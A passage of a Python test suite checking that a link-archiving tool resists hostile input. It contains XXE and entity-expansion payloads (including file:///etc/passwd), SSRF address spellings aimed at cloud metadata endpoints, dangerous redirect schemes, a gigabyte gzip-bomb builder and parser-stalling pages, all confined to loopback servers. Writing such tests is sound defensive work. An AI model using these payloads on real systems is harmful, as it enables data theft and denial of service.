"""Safe on hostile input: exports, URLs, pages and reports that try to hurt (issue 8).

Every network test here talks only to servers it starts on 127.0.0.1. A tripwire (autouse) wraps the event
loop's connect and name lookup: a connection to anything but loopback is refused before a packet leaves and
recorded, and so is a lookup of any name but the loopback names this file means to resolve. Addresses the
guard must refuse that are on loopback are aimed at a "canary" listener that counts the connections it gets:
it must get none.
"""

from __future__ import annotations

import asyncio
import csv
import gzip
import html
import ipaddress
import json
import re
import socket
import struct
import time
import tracemalloc
import zlib
from html.parser import HTMLParser
from pathlib import Path

import pytest
from aiohttp import web
from click.testing import CliRunner
from hypothesis import HealthCheck, example, given, settings as hsettings, strategies as st

from linkkeeper import store
from linkkeeper.text import html as html_text, trailer as trailer_text, urls as url_text
from linkkeeper.desk import report
from linkkeeper.wayback import ArchiveError, NoMementoError, WaybackClient
from linkkeeper.check.probe import probe_once
from linkkeeper.check.runner import check_urls
from linkkeeper.cli import main
from linkkeeper.sources.export import export_patched
from linkkeeper.net.guard import AddressRefused, GuardedResolver, refusal_reason
from linkkeeper.net.session import make_session
from linkkeeper.sources.ingest import ingest
from linkkeeper.settings import ConnectTo, Settings
from linkkeeper.sources import ExportError
from linkkeeper.sources import blogger, patching
from linkkeeper.sim.archive import settings_for
from linkkeeper.sim.web import Page, article_html
from worlds.clock import FakeClock

LOOPBACK = {ipaddress.ip_address("127.0.0.1"), ipaddress.ip_address("::1")}


def _loopback(host) -> bool:
    ip = ipaddress.ip_address(str(host).split("%")[0])
    return ip in LOOPBACK or getattr(ip, "ipv4_mapped", None) in LOOPBACK


def _hosts_file_loopback_names() -> list[str]:
    """Names other than `localhost` the system resolver maps to loopback without asking DNS (hosts file)."""
    try:
        lines = Path("/etc/hosts").read_text().splitlines()
    except OSError:
        return []
    names = []
    for line in lines:
        fields = line.split("#", 1)[0].split()
        if len(fields) >= 2:
            try:
                if ipaddress.ip_address(fields[0]).is_loopback:
                    names += [n for n in fields[1:] if n.lower() != "localhost"]
            except ValueError:
                continue
    # Prefer the classic alias when present.
    return sorted(set(names), key=lambda n: (n != "localhost.localdomain", n))[:2]


LOOPBACK_NAMES = ["localhost", *_hosts_file_loopback_names()]


@pytest.fixture(autouse=True)
async def tripwire(monkeypatch):
    """Record every connect and lookup the client makes; refuse any that could leave this machine."""
    loop = asyncio.get_running_loop()
    seen: dict[str, list] = {"connect": [], "lookup": []}
    real_connect, real_lookup = loop.sock_connect, loop.getaddrinfo

    async def sock_connect(sock, address):
        seen["connect"].append(address)
        if not _loopback(address[0]):
            raise ConnectionRefusedError(f"tripwire: the test tried to connect to {address}")
        return await real_connect(sock, address)

    async def getaddrinfo(host, *args, **kwargs):
        seen["lookup"].append(host)
        name = host.decode() if isinstance(host, bytes) else str(host)
        if name.lower() not in {n.lower() for n in LOOPBACK_NAMES}:
            raise socket.gaierror(socket.EAI_NONAME, f"tripwire: no lookups of {name!r} in these tests")
        return await real_lookup(host, *args, **kwargs)

    monkeypatch.setattr(loop, "sock_connect", sock_connect)
    monkeypatch.setattr(loop, "getaddrinfo", getaddrinfo)
    yield seen
    escaped = [a for a in seen["connect"] if not _loopback(a[0])]
    assert not escaped, f"connections attempted beyond loopback: {escaped}"


@pytest.fixture
async def canary():
    """A loopback listener that counts connections: the guard must keep every refused URL away from it."""
    hits = []

    async def accept(reader, writer):
        hits.append(writer.get_extra_info("peername"))
        writer.close()

    server = await asyncio.start_server(accept, "127.0.0.1", 0)
    server.hits = hits
    server.port = server.sockets[0].getsockname()[1]
    try:
        yield server
    finally:
        server.close()
        await server.wait_closed()


def causes(exc: BaseException) -> list[BaseException]:
    """The exception and everything it wraps (aiohttp keeps the OSError of a failed connect in os_error)."""
    chain = [exc]
    while True:
        nxt = chain[-1].__cause__ or getattr(chain[-1], "os_error", None)
        if nxt is None or nxt in chain:
            return chain
        chain.append(nxt)


async def _no_sleep(_seconds):
    return None


async def run_checks(db, urls, settings, want_body=True):
    """Check URLs as `linkkeeper check --confirm-now` would; {url: (evidence, state)}."""
    results = {}
    await check_urls(db, urls, settings.replace(confirm_spacing=0), confirm_now=True,
                     want_body=lambda _u: want_body, sleep=_no_sleep,
                     on_result=lambda ev, state: results.__setitem__(ev.url, (ev, state)))
    return results


REASON = re.compile(r"loopback|link-local|private|unspecified|multicast|reserved|non-public|site-local")


# ═══════════════════════════════════════════ 1. XML exports ════════════════════════════════════════════════

FEED_OPEN = ("<feed xmlns='http://www.w3.org/2005/Atom'><id>tag:blogger.com,1999:blog-42.archive</id>"
             "<title type='text'>Hostile</title>"
             "<link rel='alternate' type='text/html' href='http://hostile.blogspot.com/'/>\n")
KIND_POST = ("<category scheme='http://schemas.google.com/g/2005#kind' "
             "term='http://schemas.google.com/blogger/2008/kind#post'/>")


def entry(n: int, content_xml: str, title_xml: str | None = "<title type='text'>A post</title>",
          extra: str = "") -> str:
    return (f"<entry><id>tag:blogger.com,1999:blog-42.post-{n}</id>"
            f"<published>2012-10-{n % 28 + 1:02d}T10:00:00.000-04:00</published>"
            f"<updated>2012-10-{n % 28 + 1:02d}T10:00:00.000-04:00</updated>{KIND_POST}{extra}{title_xml or ''}"
            f"<content type='html'>{content_xml}</content></entry>\n")


def export_xml(entries: list[str], doctype: str = "") -> str:
    return f"<?xml version='1.0' encoding='UTF-8'?>\n{doctype}{FEED_OPEN}{''.join(entries)}</feed>\n"


GOOD_CONTENT = html.escape('<p>Text.</p><a href="http://news.example.com/a.html">Original Article</a><br />'
                           'Source: example<br />Author: --', quote=False)

LOLS = "".join(f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10}">\n' for i in range(1, 10))
XML_ATTACKS = {
    "billion laughs": f'<!DOCTYPE feed [\n<!ENTITY lol0 "lol">\n{LOLS}]>\n',
    "quadratic blowup": f'<!DOCTYPE feed [\n<!ENTITY big "{"x" * 100_000}">\n]>\n',
    "external entity (file)": '<!DOCTYPE feed [\n<!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n',
    "external entity (http)": '<!DOCTYPE feed [\n<!ENTITY xxe SYSTEM "http://127.0.0.1:{port}/xxe">\n]>\n',
    "parameter entity": '<!DOCTYPE feed [\n<!ENTITY % p SYSTEM "http://127.0.0.1:{port}/p.dtd">\n%p;\n]>\n',
    "unparsed entity": '<!DOCTYPE feed [\n<!NOTATION gif SYSTEM "image/gif">\n'
                       '<!ENTITY pic SYSTEM "http://127.0.0.1:{port}/x.gif" NDATA gif>\n]>\n',
}
# Where each attack's entity is used: in a post's title, so ingest would store the expansion.
XML_USES = {"billion laughs": "&lol9;", "quadratic blowup": "&big;" * 1000, "external entity (file)": "&xxe;",
            "external entity (http)": "&xxe;", "parameter entity": "x", "unparsed entity": "x"}


@pytest.mark.parametrize("attack", list(XML_ATTACKS))
async def test_entity_attacks_are_refused_quickly_and_ingest_nothing(attack, tmp_path, canary):
    doctype = XML_ATTACKS[attack].replace("{port}", str(canary.port))
    path = tmp_path / "attack.xml"
    path.write_text(export_xml([entry(1, GOOD_CONTENT), entry(2, GOOD_CONTENT,
                                                               f"<title type='text'>{XML_USES[attack]}</title>")],
                               doctype))
    db = store.open_db(tmp_path / "a.db")
    started = time.monotonic()
    with pytest.raises(ExportError) as caught:
        await asyncio.to_thread(ingest, db, path)
    assert time.monotonic() - started < 5
    err = caught.value
    assert str(err).startswith(f"{path}:{err.line}:{err.column}: ") and err.line >= 2
    assert "entit" in err.message.lower()
    assert db["posts"].count == 0 and db["sources"].count == 0
    assert canary.hits == []


@pytest.mark.parametrize("where", ["title", "attribute", "content"])
@pytest.mark.parametrize("kind", ["SYSTEM", "PUBLIC"])
async def test_external_dtds_are_never_fetched_but_refused(kind, where, tmp_path, canary):
    public_id = '"-//Evil//DTD Feed//EN" ' if kind == "PUBLIC" else ""
    doctype = f'<!DOCTYPE feed {kind} {public_id}"http://127.0.0.1:{canary.port}/evil.dtd">\n'
    use = {"title": ("<title type='text'>&secret;</title>", ""),
           "attribute": ("<title type='text'>t</title>", "<link rel='alternate' type='text/html' href='&secret;'/>"),
           "content": (None, "")}[where]
    content = "&secret;" if where == "content" else GOOD_CONTENT
    path = tmp_path / "dtd.xml"
    path.write_text(export_xml([entry(1, content, use[0], use[1])], doctype))
    db = store.open_db(tmp_path / "d.db")
    with pytest.raises(ExportError) as caught:
        ingest(db, path)
    # Refused at the DOCTYPE: expat would silently drop `&secret;` from the attribute, not report it.
    assert "external DTD" in caught.value.message and caught.value.line == 2
    assert db["posts"].count == 0 and canary.hits == []


def test_xinclude_is_not_processed(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP SECRET")
    include = f"<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='{secret.as_uri()}' parse='text'/>"
    path = tmp_path / "xi.xml"
    path.write_text(export_xml([entry(1, GOOD_CONTENT, f"<title type='text'>T{include}</title>")]))
    posts = list(blogger.read_export(path))
    assert len(posts) == 1 and "TOP SECRET" not in (posts[0].title or "") + posts[0].html


@pytest.mark.parametrize("name, damage", [
    ("cut in the middle of an entry", lambda text: text[:text.index("<entry>", text.index("post-2")) + 40]),
    ("cut inside a tag", lambda text: text[:text.rindex("</feed>") + 3]),
    ("mismatched tag in the third entry", lambda text: text.replace("post-3</id>", "post-3</idx>")),
    ("undeclared entity in the third entry", lambda text: text.replace("post-3</id>", "post-3&nbsp;</id>")),
    ("invalid character reference", lambda text: text.replace("post-3</id>", "post-3&#0;</id>")),
    ("raw control character", lambda text: text.replace("post-3</id>", "post-3\x01</id>")),
])
def test_a_damaged_export_names_file_line_column_and_changes_nothing(name, damage, tmp_path):
    good = export_xml([entry(n, GOOD_CONTENT) for n in (1, 2, 3, 4)])
    path = tmp_path / "blog.xml"
    path.write_text(good)
    db = store.open_db(tmp_path / "t.db")
    ingest(db, path)
    before = (db["posts"].count, db["links"].count, [dict(r) for r in db["sources"].rows])
    path.write_text(damage(good))
    with pytest.raises(ExportError) as caught:
        ingest(db, path)
    err = caught.value
    assert re.match(rf"{re.escape(str(path))}:\d+:\d+: \S", str(err)), str(err)
    assert err.line >= 2 and err.column >= 1
    # One transaction: not one post of the damaged file is stored, and the earlier ingest is intact.
    assert (db["posts"].count, db["links"].count, [dict(r) for r in db["sources"].rows]) == before
    fresh = store.open_db(tmp_path / "fresh.db")
    with pytest.raises(ExportError):
        ingest(fresh, path)
    assert fresh["posts"].count == 0 and fresh["sources"].count == 0


def test_cli_refuses_a_billion_laughs_with_exit_2(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "bomb.xml"
    path.write_text(export_xml([entry(1, GOOD_CONTENT, "<title type='text'>&lol9;</title>")],
                               XML_ATTACKS["billion laughs"]))
    started = time.monotonic()
    result = CliRunner().invoke(main, ["--db", str(tmp_path / "c.db"), "ingest", str(path)], catch_exceptions=False)
    assert result.exit_code == 2 and time.monotonic() - started < 5
    assert re.search(rf"{re.escape(str(path))}:\d+:\d+: .*entit", result.output), result.output


# ══════════════════════════════════════════════ 2. SSRF ══════════════════════════════════════════════════════

def loopback_spellings(port: int) -> list[str]:
    return [f"http://{host}:{port}/secret" for host in (
        "127.0.0.1", "2130706433", "0177.0.0.1", "0x7f.1", "0x7f000001", "127.1", "127.000.000.001",
        "0x7f.0x0.0x0.0x1", "127.0.0.1.", "１２７.０.０.１", "127.0.0.2", "[::1]", "[0:0:0:0:0:0:0:1]",
        "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[0:0:0:0:0:ffff:7f00:1]", "[2002:7f00:1::]", "[64:ff9b::7f00:1]",
        "0.0.0.0", "0", "[::]", *LOOPBACK_NAMES, "LOCALHOST",
    )]


# Never connected: the tripwire would refuse it, and the canary is not there. The guard must refuse first.
ELSEWHERE = [
    "http://169.254.169.254/latest/meta-data/", "http://2852039166/latest/meta-data/",
    "http://0xa9fea9fe/latest/meta-data/", "http://0251.0376.0251.0376/latest/meta-data/",
    "http://[::ffff:169.254.169.254]/latest/meta-data/", "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
    "http://[fd00:ec2::254]/latest/meta-data/", "http://10.0.0.1/admin", "http://172.16.0.1/", "http://192.168.1.1/",
    "http://100.64.0.1/", "http://198.18.0.1/", "http://224.0.0.1/", "http://239.255.255.250:1900/",
    "http://240.0.0.1/", "http://255.255.255.255/", "http://[fe80::1%25eth0]/", "http://[fc00::1]/",
    "http://[fec0::1]/", "http://[ff02::1]/", "https://[::ffff:10.0.0.1]:8443/",
]


async def test_every_spelling_of_a_private_address_is_refused_before_connecting(simweb, tmp_path, canary, tripwire):
    urls = [url_text.normalize_url(u) for u in loopback_spellings(canary.port) + ELSEWHERE]
    db = store.open_db(tmp_path / "ssrf.db")
    results = await run_checks(db, urls, simweb.settings())
    assert set(results) == set(urls)
    for url, (ev, state) in results.items():
        assert state["verdict"] == "refused" and ev.evidence_class == "refused", (url, ev.error)
        assert REASON.search(ev.reason or "") or "unreadable" in (ev.reason or ""), (url, ev.reason)
        stored = db.execute("SELECT evidence_class, reason FROM checks WHERE url = ?", [url]).fetchall()
        assert stored and all(row[0] == "refused" and row[1] for row in stored), (url, stored)
    assert canary.hits == []
    assert not [a for a in tripwire["connect"] if a[1] == canary.port]
    assert len(set(urls)) >= 40


@pytest.mark.parametrize("name", LOOPBACK_NAMES)
async def test_names_that_resolve_to_loopback_are_refused_after_resolution(name, simweb, tmp_path, canary, tripwire):
    url = f"http://{name}:{canary.port}/"
    results = await run_checks(store.open_db(tmp_path / "n.db"), [url], simweb.settings())
    ev, state = results[url]
    assert state["verdict"] == "refused" and f"{name} resolves to loopback address" in ev.reason
    assert name in tripwire["lookup"] and canary.hits == []


REDIRECT_TARGETS = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://[::ffff:169.254.169.254]/latest/meta-data/",
    "//169.254.169.254/latest/meta-data/",
    "http://10.0.0.1/admin",
    "http://localhost:{canary}/",
    "http://user:pass@127.0.0.1:{canary}/",
    "http://2130706433:{canary}/",
    "http://0x7f.1:{canary}/",
    "http://[::1]:{canary}/",
    "http://0.0.0.0:{canary}/",
]


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
async def test_a_public_looking_host_redirecting_to_metadata_is_refused(status, simweb, tmp_path, tripwire):
    url = f"http://www.public-news.example/story-{status}.html"
    simweb.add(url, Page(status=status, location="http://169.254.169.254/latest/meta-data/"))
    ev, state = (await run_checks(store.open_db(tmp_path / "r.db"), [url], simweb.settings()))[url]
    assert state["verdict"] == "refused" and "link-local address 169.254.169.254" in ev.reason
    assert ev.redirect_chain == [{"url": url, "status": status, "location": "http://169.254.169.254/latest/meta-data/"}]
    assert all(a[0] == "127.0.0.1" for a in tripwire["connect"])


@pytest.mark.parametrize("target", REDIRECT_TARGETS)
async def test_redirects_into_private_space_are_refused_at_every_hop(target, simweb, tmp_path, canary):
    target = target.replace("{canary}", str(canary.port))
    first = "http://www.public-news.example/a"
    simweb.add(first, Page(status=302, location="http://cdn.public-news.example/b"))
    simweb.add("http://cdn.public-news.example/b", Page(status=301, location=target))
    ev, state = (await run_checks(store.open_db(tmp_path / "h.db"), [first], simweb.settings()))[first]
    assert state["verdict"] == "refused" and REASON.search(ev.reason), ev.reason
    assert [h["status"] for h in ev.redirect_chain] == [302, 301]
    assert canary.hits == []


@pytest.mark.parametrize("target", ["file:///etc/passwd", "ftp://127.0.0.1/", "gopher://127.0.0.1:6379/_INFO",
                                    "javascript:alert(1)", "data:text/html,hi"])
async def test_redirects_to_other_schemes_are_refused(target, simweb, tmp_path):
    url = "http://www.public-news.example/scheme"
    simweb.add(url, Page(status=302, location=target))
    ev, state = (await run_checks(store.open_db(tmp_path / "s.db"), [url], simweb.settings()))[url]
    assert state["verdict"] == "refused" and ev.error_class == "redirect_scheme" and "URL refused" in ev.reason


async def test_the_guard_sits_in_the_session_for_any_caller(simweb, canary):
    """Not only the checker's own pre-check: a plain request on a make_session session is judged too."""
    settings = simweb.settings()
    async with make_session(settings, trust_archive=False) as session:
        # As written, not normalised: yarl's own reading of each spelling reaches the connector.
        for url in loopback_spellings(canary.port) + ELSEWHERE:
            with pytest.raises(Exception) as caught:
                async with session.get(url):
                    pass
            assert any(isinstance(e, AddressRefused) for e in causes(caught.value)), (url, caught.value)
    assert canary.hits == []


async def test_a_wildcard_connect_to_rule_never_routes_an_ip_literal(simweb, tmp_path, canary):
    url = f"http://127.0.0.1:{canary.port}/"
    settings = simweb.settings(connect_to=[ConnectTo("*", "*", "127.0.0.1", canary.port)])
    ev, state = (await run_checks(store.open_db(tmp_path / "w.db"), [url], settings))[url]
    assert state["verdict"] == "refused" and canary.hits == []


async def test_allow_addresses_and_connect_to_are_the_ways_past_the_guard(simweb, tmp_path, tripwire):
    port = simweb.server.port
    simweb.add("http://169.254.169.254/latest/meta-data/", Page(body="<html><title>stub</title>ok</html>"))
    allowed = [f"http://127.0.0.1:{port}/x", f"http://0x7f.1:{port}/x", f"http://[::ffff:127.0.0.1]:{port}/x"]
    db = store.open_db(tmp_path / "allow.db")
    results = await run_checks(db, allowed, simweb.settings(allow_addresses=["127.0.0.0/8"], sibling_probe=False))
    for url in allowed:
        ev, _ = results[url]
        assert ev.evidence_class != "refused" and ev.status == 404, (url, ev.error)
    # The simulated web names 169.254.169.254 in a connect_to rule (to loopback): routed, never connected.
    url = "http://169.254.169.254/latest/meta-data/"
    ev, state = (await run_checks(db, [url], simweb.settings(sibling_probe=False)))[url]
    assert state["verdict"] == "alive" and ev.title == "stub"
    assert all(a[0] == "127.0.0.1" for a in tripwire["connect"])  # IPv4-mapped is connected as IPv4


async def test_a_resolver_answer_with_one_private_address_is_refused_whole():
    class Inner:
        async def resolve(self, host, port, family):
            return [{"hostname": host, "host": a, "port": port, "family": socket.AF_INET, "proto": 0, "flags": 0}
                    for a in ("93.184.216.34", "10.1.2.3")]

        async def close(self):
            pass

    resolver = GuardedResolver()
    resolver.inner = Inner()
    with pytest.raises(AddressRefused, match="rebind.example resolves to private address 10.1.2.3"):
        await resolver.resolve("rebind.example", 80)


@pytest.mark.parametrize("address, expected", [
    ("8.8.8.8", None), ("2606:4700:4700::1111", None), ("::ffff:8.8.8.8", None), ("64:ff9b::808:808", None),
    ("127.0.0.1", "loopback"), ("0x7f.1", "loopback"), ("::ffff:7f00:1", "loopback"), ("2002:a9fe:a9fe::", "link-local"),
    ("169.254.169.254", "link-local"), ("0.0.0.0", "unspecified"), ("::", "unspecified"), ("100.64.0.1", "non-public"),
    ("fec0::1", "site-local"), ("ff05::1", "multicast"), ("240.0.0.1", "private"), ("::zz", "unreadable"),
    ("1.2.3.4.5", "unreadable"),
])
def test_refusal_reasons(address, expected):
    reason = refusal_reason(address)
    assert (reason is None) if expected is None else (expected in reason), reason
    # allow_addresses lets any readable address through, never one that cannot be read.
    assert (refusal_reason(address, ("0.0.0.0/0", "::/0")) is None) == (expected != "unreadable")


# --- the archive client ---------------------------------------------------------------------------------------

async def test_the_archive_session_trusts_its_endpoints_and_nothing_a_replay_points_at(tmp_path, tripwire):
    seen = []

    async def replay(request):
        seen.append(request.path_qs)
        tail = request.match_info["tail"]
        if tail == "20120101000000id_/http://a.example/":
            # The Wayback Machine's own "nearest capture" redirect, but to another host.
            return web.Response(status=302, headers={
                "Location": "http://169.254.169.254/web/20120102000000id_/http://a.example/",
                "X-Archive-Redirect-Reason": "found capture at 20120102000000"})
        if tail == "20120102000000id_/http://a.example/":
            return web.Response(text="<html>capture</html>", content_type="text/html",
                                headers={"Memento-Datetime": "Mon, 02 Jan 2012 00:00:00 GMT"})
        if tail == "20120103000000id_/http://b.example/":
            return web.Response(status=302, headers={"Location": "http://169.254.169.254/latest/meta-data/"})
        if tail == "20120104000000id_/http://c.example/":
            # A captured redirect (Memento-Datetime) into the metadata service.
            return web.Response(status=302, headers={"Location": "http://169.254.169.254/latest/meta-data/",
                                                     "Memento-Datetime": "Wed, 04 Jan 2012 00:00:00 GMT"})
        return web.Response(status=404, text="not archived",
                            headers={"X-Archive-Wayback-Runtime-Error": "ResourceNotInArchiveException"})

    app = web.Application()
    app.router.add_get("/web/{tail:.*}", replay)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    base = f"http://127.0.0.1:{runner.addresses[0][1]}"
    try:
        settings = Settings(db=":memory:", retries=0).replace(**settings_for(base))
        clock = FakeClock()
        async with make_session(settings) as session:
            client = WaybackClient(session, settings, clock=clock, sleep=clock.sleep, max_attempts=1)
            memento = await client.get_memento("http://a.example/", "20120101000000")
            assert memento.status == 200 and memento.timestamp == "20120102000000"
            with pytest.raises(ArchiveError):
                await client.get_memento("http://b.example/", "20120103000000")
            captured = await client.get_memento("http://c.example/", "20120104000000")
            with pytest.raises(NoMementoError):  # its target is asked of the archive, which never saw it
                await client.get_memento(captured.redirect_location, captured.timestamp)
            # The session itself lets the configured endpoint through, and nothing else on loopback or beyond.
            for url in ("http://169.254.169.254/latest/meta-data/", f"http://127.0.0.1:{runner.addresses[0][1] + 1}/",
                        f"http://localhost:{runner.addresses[0][1]}/web/x"):
                with pytest.raises(Exception) as caught:
                    async with session.get(url):
                        pass
                assert any(isinstance(e, AddressRefused) for e in causes(caught.value)), (url, caught.value)
    finally:
        await runner.cleanup()
    assert "/web/20120102000000id_/http://a.example/" in seen
    assert any("169.254.169.254" in p for p in seen)  # asked of the archive, as an archived URL
    assert all(a[0] == "127.0.0.1" for a in tripwire["connect"])


# ═════════════════════════════════════════ 3. Bounded responses ════════════════════════════════════════════

def _fixed_huffman_zeros(total: int) -> bytes:
    """A deflate stream of `total` zero bytes, built bit by bit instead of compressed (compressing 1 GiB takes
    seconds): one fixed-Huffman block, a literal 0, then copies of 258 bytes at distance 1 (13 bits each).
    Eight copies make 13 whole bytes, so the bulk is one 13-byte pattern repeated."""
    bits: list[int] = []

    def field(value: int, n: int) -> None:  # header fields go in least significant bit first
        bits.extend((value >> i) & 1 for i in range(n))

    def code(value: int, n: int) -> None:  # Huffman codes go in most significant bit first
        bits.extend((value >> (n - 1 - i)) & 1 for i in range(n))

    def copy() -> None:
        code(0xC5, 8)  # length 258 (symbol 285)
        code(0, 5)  # distance 1

    def packed() -> bytes:
        data = bytes(sum(b << i for i, b in enumerate(bits[k:k + 8])) for k in range(0, len(bits), 8))
        bits.clear()
        return data

    copies, literals = divmod(total - 1, 258)
    field(1, 1)
    field(1, 2)
    code(0x30, 8)  # literal 0
    # 11 bits so far; after `lead` copies the stream is byte-aligned and the 13-byte pattern can start.
    lead = next(k for k in range(8) if (11 + 13 * k) % 8 == 0) if copies >= 16 else copies
    for _ in range(lead):
        copy()
    if copies < 16:
        for _ in range(literals):
            code(0x30, 8)
        code(0, 7)
        bits.extend([0] * (-len(bits) % 8))
        return packed()
    head = packed()
    for _ in range(8):
        copy()
    pattern = packed()
    blocks, left = divmod(copies - lead, 8)
    for _ in range(left):
        copy()
    for _ in range(literals):
        code(0x30, 8)
    code(0, 7)  # end of block
    bits.extend([0] * (-len(bits) % 8))
    return head + pattern * blocks + packed()


def _crc32_of_zeros(total: int) -> int:
    # crc32 is affine in its running value: compose the one-byte step by squaring instead of hashing 1 GiB.
    def step_of(n_bytes: bytes):
        const = zlib.crc32(n_bytes, 0)
        return [zlib.crc32(n_bytes, 1 << i) ^ const for i in range(32)], const

    def apply(f, value):
        cols, const = f
        out = const
        for i in range(32):
            if value >> i & 1:
                out ^= cols[i]
        return out

    def compose(f, g):  # f after g
        return [apply(f, c) ^ f[1] for c in g[0]], apply(f, g[1])

    result, power = ([1 << i for i in range(32)], 0), step_of(b"\0")
    n = total
    while n:
        if n & 1:
            result = compose(power, result)
        power = compose(power, power)
        n >>= 1
    return apply(result, 0)


def gzip_of_zeros(total: int) -> bytes:
    return (b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff" + _fixed_huffman_zeros(total)
            + struct.pack("<II", _crc32_of_zeros(total), total & 0xFFFFFFFF))


@pytest.mark.parametrize("size", [1, 257, 258, 259, 5000, 300_001])
def test_the_bomb_builder_writes_real_gzip(size):
    assert gzip.decompress(gzip_of_zeros(size)) == bytes(size)


GIB = 1 << 30
_BOMB: dict[int, bytes] = {}


def _bomb() -> bytes:
    if GIB not in _BOMB:
        _BOMB[GIB] = gzip_of_zeros(GIB)
    return _BOMB[GIB]


def test_the_bomb_is_a_gibibyte_of_zeros():
    bomb = _bomb()
    assert len(bomb) < 8_000_000 and struct.unpack("<I", bomb[-4:])[0] == GIB & 0xFFFFFFFF
    d = zlib.decompressobj(31)
    assert d.decompress(bomb[:200_000], 10_000_000) == bytes(10_000_000)


async def hostile_server(aiohttp_server, routes):
    app = web.Application()
    for path, handler in routes.items():
        app.router.add_get(path, handler)
    server = await aiohttp_server(app)
    rule = ConnectTo("hostile.example", "*", "127.0.0.1", server.port)
    return Settings(db=":memory:", connect_timeout=2, read_timeout=2, total_timeout=4, retries=0,
                    sibling_probe=False, confirm_spacing=0, connect_to=(rule,))


async def test_a_gzip_bomb_is_cut_at_max_bytes_after_decompression(aiohttp_server, tmp_path):
    bomb = _bomb()

    async def serve_bomb(request):
        response = web.StreamResponse(headers={"Content-Type": "text/html", "Content-Encoding": "gzip"})
        await response.prepare(request)
        try:
            for i in range(0, len(bomb), 1 << 16):
                await response.write(bomb[i:i + (1 << 16)])
        except (ConnectionError, RuntimeError):
            pass  # the client hung up once it had enough
        return response

    settings = (await hostile_server(aiohttp_server, {"/bomb": serve_bomb})).replace(max_bytes=1_000_000)
    db = store.open_db(tmp_path / "b.db")
    tracemalloc.start()
    try:
        results = await run_checks(db, ["http://hostile.example/bomb"], settings)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    ev, state = results["http://hostile.example/bomb"]
    assert ev.status == 200 and ev.truncated and len(ev.text) == 1_000_000  # decompressed NULs, cut exactly
    assert "max_bytes" in ev.reason and "after decompression" in ev.reason
    assert peak < 64 * 2 ** 20, peak  # a gibibyte never sat in memory
    stored = db.execute("SELECT reason, error FROM checks").fetchone()
    assert "max_bytes" in stored[0] and "max_bytes" in stored[1]


async def test_an_endless_body_and_a_dripping_body_are_cut_and_recorded(aiohttp_server, tmp_path):
    async def endless(request):
        response = web.StreamResponse(headers={"Content-Type": "text/html"})
        await response.prepare(request)
        try:
            while True:
                await response.write(b"<p>" + b"spam " * 10_000 + b"</p>")
        except (ConnectionError, RuntimeError):
            return response

    async def drip(request):
        response = web.StreamResponse(headers={"Content-Type": "text/html"})
        await response.prepare(request)
        try:
            for _ in range(10_000):
                await response.write(b"<p>.</p>")
                await asyncio.sleep(0.05)
        except (ConnectionError, RuntimeError):
            pass
        return response

    settings = (await hostile_server(aiohttp_server, {"/endless": endless, "/drip": drip})).replace(
        max_bytes=300_000, total_timeout=1.5)
    db = store.open_db(tmp_path / "e.db")
    started = time.monotonic()
    results = await run_checks(db, ["http://hostile.example/endless", "http://hostile.example/drip"], settings)
    assert time.monotonic() - started < 10
    endless_ev, _ = results["http://hostile.example/endless"]
    assert endless_ev.truncated and "max_bytes" in endless_ev.reason and endless_ev.evidence_class == "alive"
    drip_ev, _ = results["http://hostile.example/drip"]
    assert drip_ev.truncated and "total_timeout" in drip_ev.reason and drip_ev.status == 200
    assert drip_ev.elapsed_ms < 5000


async def test_oversized_headers_are_refused_not_fatal(aiohttp_server, tmp_path):
    async def long_header(request):
        return web.Response(text="hi", headers={"X-Padding": "a" * 20_000})

    async def many_headers(request):
        return web.Response(text="hi", headers={f"X-H{i}": "a" for i in range(300)})

    async def long_status_line(request):
        return web.Response(text="hi", reason="R" * 20_000)

    routes = {"/long": long_header, "/many": many_headers, "/status": long_status_line}
    settings = (await hostile_server(aiohttp_server, routes)).replace(max_header_size=4096, max_headers=64)
    urls = [f"http://hostile.example{p}" for p in routes]
    results = await run_checks(store.open_db(tmp_path / "o.db"), urls, settings)
    for url in urls:
        ev, state = results[url]
        assert ev.error_class == "oversized_headers" and state["verdict"] == "unknown", (url, ev.error)


async def test_redirect_chains_are_bounded(simweb, tmp_path):
    for i in range(5):
        simweb.add(f"http://www.public-news.example/hop{i}", Page(status=302, location=f"/hop{i + 1}"))
    url = "http://www.public-news.example/hop0"
    ev, state = (await run_checks(store.open_db(tmp_path / "m.db"), [url], simweb.settings(max_redirects=2)))[url]
    assert ev.error_class == "too_many_redirects" and len(ev.redirect_chain) == 3 and state["verdict"] == "unknown"


async def test_a_hanging_server_is_cut_by_the_total_time_per_url(aiohttp_server, tmp_path):
    async def hang(request):
        await asyncio.sleep(30)
        return web.Response(text="late")

    settings = (await hostile_server(aiohttp_server, {"/hang": hang})).replace(total_timeout=1, read_timeout=20)
    started = time.monotonic()
    ev, _ = (await run_checks(store.open_db(tmp_path / "t.db"), ["http://hostile.example/hang"], settings))[
        "http://hostile.example/hang"]
    assert ev.error_class == "timeout" and time.monotonic() - started < 5


PATHOLOGICAL = [
    ("unclosed titles", "<title>" * 100_000),
    ("unclosed anchors", "<a " * 100_000),
    ("unbalanced quotes", '<a "' * 100_000),
    ("unclosed links", "<link " * 100_000 + ">"),
    ("unclosed scripts", "<script>" * 60_000 + "<style>" * 60_000),
    ("lone brackets", "<" * 500_000),
    ("line breaks without end", "<br " * 100_000),
]


@pytest.mark.parametrize("name, body", PATHOLOGICAL, ids=[p[0] for p in PATHOLOGICAL])
async def test_pages_built_to_stall_the_parser_are_judged_quickly(name, body, aiohttp_server, tmp_path):
    async def page(request):
        return web.Response(text=body, content_type="text/html")

    settings = (await hostile_server(aiohttp_server, {"/p": page})).replace(max_bytes=2_000_000)
    started = time.monotonic()
    ev, _ = (await run_checks(store.open_db(tmp_path / "p.db"), ["http://hostile.example/p"], settings))[
        "http://hostile.example/p"]
